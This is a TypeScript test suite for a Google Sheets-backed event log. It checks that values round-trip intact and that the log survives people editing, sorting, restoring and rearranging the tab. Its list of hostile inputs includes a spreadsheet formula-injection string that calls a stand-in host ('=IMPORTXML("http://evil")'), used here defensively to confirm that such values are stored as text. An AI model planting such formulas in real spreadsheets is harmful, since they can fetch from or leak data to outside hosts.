import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Event, EventInput } from "../../src/core/index.ts";
import { winnersOf } from "../../src/core/winners.ts";
import {
  change,
  eventsOf,
  hash,
  idsIn,
  idsOf,
  manyEvents,
  rowsOf,
  rules,
  statuses,
} from "../contract/sample.ts";
import { eventsHeader, type SheetsWorld, sheetsWorld } from "../support/sheets-log.ts";

let world: SheetsWorld;
beforeAll(async () => {
  world = await sheetsWorld({ timeZone: "America/New_York", quotas: false });
});
afterAll(() => world.sheets.close());

interface TabAnswer {
  readonly properties: { readonly title: string; readonly sheetId: number };
  readonly data: readonly { readonly rowData: readonly { readonly values: readonly object[] }[] }[];
}

let tabs = 0;
/** A log in a tab of its own, with some events in it. */
async function logWith(events: readonly Event[]) {
  const tab = `Events ${++tabs}`;
  const log = await world.open(tab);
  await log.append(events);
  return { tab, log, fresh: () => world.open(tab), control: world.sheets.control };
}

const soundIn = async (log: Parameters<typeof rowsOf>[0]) =>
  winnersOf(await rowsOf(log), rules.catalog, hash);

const hostile = [
  '=IMPORTXML("http://evil")',
  "=1+1",
  "+1 555",
  "-1",
  "@x",
  "007",
  "1-2",
  "1e5",
  "TRUE",
  "2026-04-12",
  "12:30",
  "$5.00",
  "50%",
  "'quoted",
  "''",
  '"',
  "#REF!",
  "#gid=0",
  "a\u00a0b",
  "🦊 é e\u0301",
  "null",
  "\\n",
];

describe("text stays what it is", () => {
  test.each(hostile)(
    "a contact called %j comes back as it is, and its event is found again",
    async (name) => {
      const events = eventsOf(
        change(name, name, { deal_id: name, actor: name, source: name, idempotency_key: name }),
      );
      const { log, fresh } = await logWith(events);
      expect(await rowsOf(await fresh())).toMatchObject(events);
      expect(statuses(await (await fresh()).append(events))).toEqual(["duplicate"]);
      expect(await idsIn(log)).toEqual(idsOf(events));
    },
  );

  test("data of 40,000 units, with line breaks, quotes and emoji, comes back unit by unit", async () => {
    const note = `line\nbreak "quoted" 🦊${"x".repeat(39_940)}`;
    const input: EventInput = change("sarah", "Won", { event_data: { to: "Won", note } });
    const events = eventsOf(input);
    expect(events[0]?.event_data).toHaveLength(note.length + 4 + '{"note":"","to":"Won"}'.length - 1);
    const { fresh } = await logWith(events);
    expect(await rowsOf(await fresh())).toMatchObject(events);
  });

  test("beside the sealed text stand a date in the sheet's own zone and a sentence", async () => {
    const { tab, control } = await logWith(
      eventsOf(change("sarah", "Won", { timestamp: "2026-07-01T16:00:00.000Z" })),
    );
    const [header = [], row = []] = control.rows({ tab });
    expect(row[header.indexOf("when")]).toBeCloseTo(46_204.5, 6); // noon of 2026-07-01 in New York
    expect(row[header.indexOf("event")]).toBe("Stage set to Won");
  });
});

describe("what a person does to the tab", () => {
  test("formats that a person gave to rows stay, and so does a column's own", async () => {
    const { tab, log, control } = await logWith(manyEvents(1));
    const sheet = () =>
      (control.book().sheets as readonly TabAnswer[]).find(({ properties }) => properties.title === tab);
    const sheetId = sheet()?.properties.sheetId ?? 0;
    const bold = { userEnteredFormat: { textFormat: { bold: true } } };
    control.ask({
      requests: [
        { appendDimension: { sheetId, dimension: "ROWS", length: 2 } },
        { repeatCell: { range: { sheetId }, cell: bold, fields: "userEnteredFormat.textFormat.bold" } },
      ],
    });
    await log.append(manyEvents(1, "more"));
    const cells = sheet()?.data[0]?.rowData[2]?.values ?? [];
    expect(cells).toHaveLength(12);
    for (const cell of cells) expect(cell).toMatchObject(bold);
  });

  test("columns may be moved and others added: rows are read and written by their headers", async () => {
    const events = manyEvents(5);
    const { tab, log, fresh, control } = await logWith(events);
    control.insertColumns({ tab, at: "A" });
    control.renameHeader({ tab, column: "A", to: "My notes" });
    control.moveColumn({ tab, column: "idempotency_key", before: "contact_id" });
    control.deleteColumns({ tab, at: "event" });
    const more = manyEvents(5, "more");
    expect(new Set(statuses(await log.append([...events, ...more])))).toEqual(
      new Set(["duplicate", "appended"]),
    );
    expect(await idsIn(await fresh())).toEqual(idsOf([...events, ...more]));
  });

  test("a sorted tab is the same log, for handles that are open, too", async () => {
    const events = manyEvents(30);
    const { tab, log, fresh, control } = await logWith(events);
    control.sort({ tab, column: "event_data", descending: true });
    expect(new Set(statuses(await log.append(events)))).toEqual(new Set(["duplicate"]));
    expect(new Set(statuses(await (await fresh()).append(events)))).toEqual(new Set(["duplicate"]));
    expect(await idsIn(log)).toEqual(idsOf(events));
  });

  test("rows that a person put in empty are none, and those below are read", async () => {
    const events = manyEvents(6);
    const { tab, log, fresh, control } = await logWith(events);
    control.insertRows({ tab, at: 3, count: 40 });
    const more = manyEvents(2, "more");
    await log.append(more);
    expect(await rowsOf(await fresh())).toHaveLength(8);
    expect(new Set(statuses(await log.append([...events, ...more])))).toEqual(new Set(["duplicate"]));
  });

  test("notes beside the columns, further down than any event, stand in nobody's way", async () => {
    const events = manyEvents(3);
    const { tab, log, fresh, control } = await logWith(events);
    control.paste({ tab, cell: "P20", values: [["a note"]] });
    const more = manyEvents(3, "more");
    await log.append(more);
    await log.append(manyEvents(1, "last"));
    expect(await rowsOf(await fresh())).toHaveLength(7);
    expect(new Set(statuses(await log.append([...events, ...more])))).toEqual(new Set(["duplicate"]));
  });

  test.each([
    ["a number", 5],
    ["a truth value", true],
    ["a date", "2026-04-12"],
    ["a formula", "=1+1"],
    ["another text", "Lost"],
    ["nothing", ""],
  ])("a cell that became %s shows as an edit in every column, and stops nobody", async (_, value) => {
    for (const column of ["event_id", "contact_id", "event_data", "timestamp", "idempotency_key"]) {
      const events = manyEvents(3);
      const { tab, log, fresh, control } = await logWith(events);
      control.editCell({ tab, cell: `R3C${eventsHeader.indexOf(column) + 1}`, value });
      const { left_out } = await soundIn(await fresh());
      expect(left_out).toHaveLength(1);
      const [receipt] = await (await fresh()).append([events[1] as Event]);
      // A row without its key holds none: the event is written again.
      expect(receipt?.status).toBe(column === "idempotency_key" ? "appended" : "conflict");
      expect(statuses(await log.append(manyEvents(1, "more")))).toEqual(["appended"]);
    }
  });

  test("a row that was deleted is written again by a new handle", async () => {
    const events = manyEvents(3);
    const { tab, fresh, control } = await logWith(events);
    control.deleteRows({ tab, at: 3 });
    expect([...statuses(await (await fresh()).append(events))].sort()).toEqual([
      "appended",
      "duplicate",
      "duplicate",
    ]);
  });

  test.each(["the newest", "every"])(
    "with %s marker deleted, a handle goes on and doubles nothing",
    async (which) => {
      const [first, second] = [manyEvents(3, "first"), manyEvents(3, "second")];
      const { log, fresh, control } = await logWith(first);
      await log.append(second);
      const names = (control.book().namedRanges as readonly { readonly name: string }[]).map(
        ({ name }) => name,
      );
      for (const name of which === "every" ? names : names.slice(-1)) control.deleteNamedRange({ name });
      const third = manyEvents(3, "third");
      expect(new Set(statuses(await (await fresh()).append([...second, ...third])))).toEqual(
        new Set(["duplicate", "appended"]),
      );
      expect(new Set(statuses(await log.append([...first, ...third])))).toEqual(new Set(["duplicate"]));
      expect(await rowsOf(await fresh())).toHaveLength(9);
    },
  );

  test("a version that a person brought back is the log as it was then", async () => {
    const { log, control, fresh } = await logWith(manyEvents(3, "first"));
    const second = manyEvents(3, "second");
    await log.append(second);
    control.restore({ commits: 1 });
    expect(new Set(statuses(await (await fresh()).append(second)))).toEqual(new Set(["appended"]));
  });
});

describe("what the rows say of one another", () => {
  test("a void and an erasure are heeded by a handle that has read neither", async () => {
    const [wrong, gone] = eventsOf(change("a", "Won"), change("b", "Won")) as [Event, Event];
    const marks = eventsOf(
      {
        contact_id: "a",
        event_type: "event_voided",
        event_data: { event_id: wrong.event_id },
        cause: "void",
      },
      {
        contact_id: "daybook",
        event_type: "contact_erased",
        event_data: { event_ids: [gone.event_id] },
        cause: "x",
      },
    );
    const { fresh } = await logWith([wrong, ...marks]);
    const receipts = await (await fresh()).append([wrong, gone]);
    expect(statuses(receipts)).toEqual(["conflict", "rejected"]);
    expect(receipts[0]?.reason).toMatch(/^voided/);
    expect(receipts[1]?.reason).toMatch(/^erased/);
  });
});
